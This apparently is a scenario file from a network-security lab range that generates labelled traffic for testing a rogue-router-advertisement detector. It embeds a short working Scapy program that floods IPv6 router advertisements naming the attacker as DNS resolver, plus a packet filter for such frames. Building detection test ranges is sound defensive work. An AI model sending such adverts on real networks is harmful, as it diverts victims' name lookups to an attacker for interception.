"""An advertisement with no way and no prefix, only a resolver (RFC 8106): names go to the attacker."""

from lab import servers
from lab.range import Range
from lab.scenario import Scenario

PROGRAM = """
import sys
me, mine, resolver = sys.argv[1:4]
frame = Ether(src=me, dst="33:33:00:00:00:01") / IPv6(src=mine, dst="ff02::1", hlim=255)
frame /= ICMPv6ND_RA(chlim=0, prf=1, routerlifetime=0, M=0, O=1) / ICMPv6NDOptSrcLLAddr(lladdr=me)
frame /= ICMPv6NDOptRDNSS(lifetime=600, dns=[resolver])
for _ in range(5):
    sendp(frame)
    time.sleep(4)
"""


def run(net: Range) -> None:
    attacker, router, pc3 = net.inside("pc4"), net.router(), net.inside("pc3")
    net.everyday(lead=0.5)
    servers.router_advertisements(router, "eth0", "fd00:20::/64", "fd00:20::53")
    net.loop(pc3, "rdisc6 -1 -q eth0; ping -6 -n -q -c 1 -W 1 fd00:20::53", 3.0)
    net.loop(attacker, f"curl -s -m 3 -o /dev/null -g http://[{net.web().ip6}]/", 1.5)
    net.quiet(6)

    def link_local(host_name: str) -> str:
        shown = net.hosts[host_name].run("ip", "-6", "-o", "addr", "show", "dev", "eth0", "scope", "link")
        return shown.stdout.split()[3].split("/")[0]

    with net.attack(
        "rogue-router-advertisement",
        by=attacker,
        attackers=[attacker.mac],
        victims=[link_local("router")],
        frames="ip6 and ip6[6] == 58 and ip6[40] == 134",
    ):
        net.scapy(attacker, PROGRAM, attacker.mac, link_local("pc4"), attacker.ip6, seconds=26)
    net.quiet(3)


SCENARIO = Scenario(
    name="rogue-router-advertisement-held-resolver",
    about="A station that is no router advertises itself as resolver to all hosts, every four seconds.",
    detectors=("rogue-router-advertisement",),
    tools={"radvd": "radvd", "rdisc6": "ndisc6"},
    held_out=False,
    run=run,
    snap_octets=400,
)
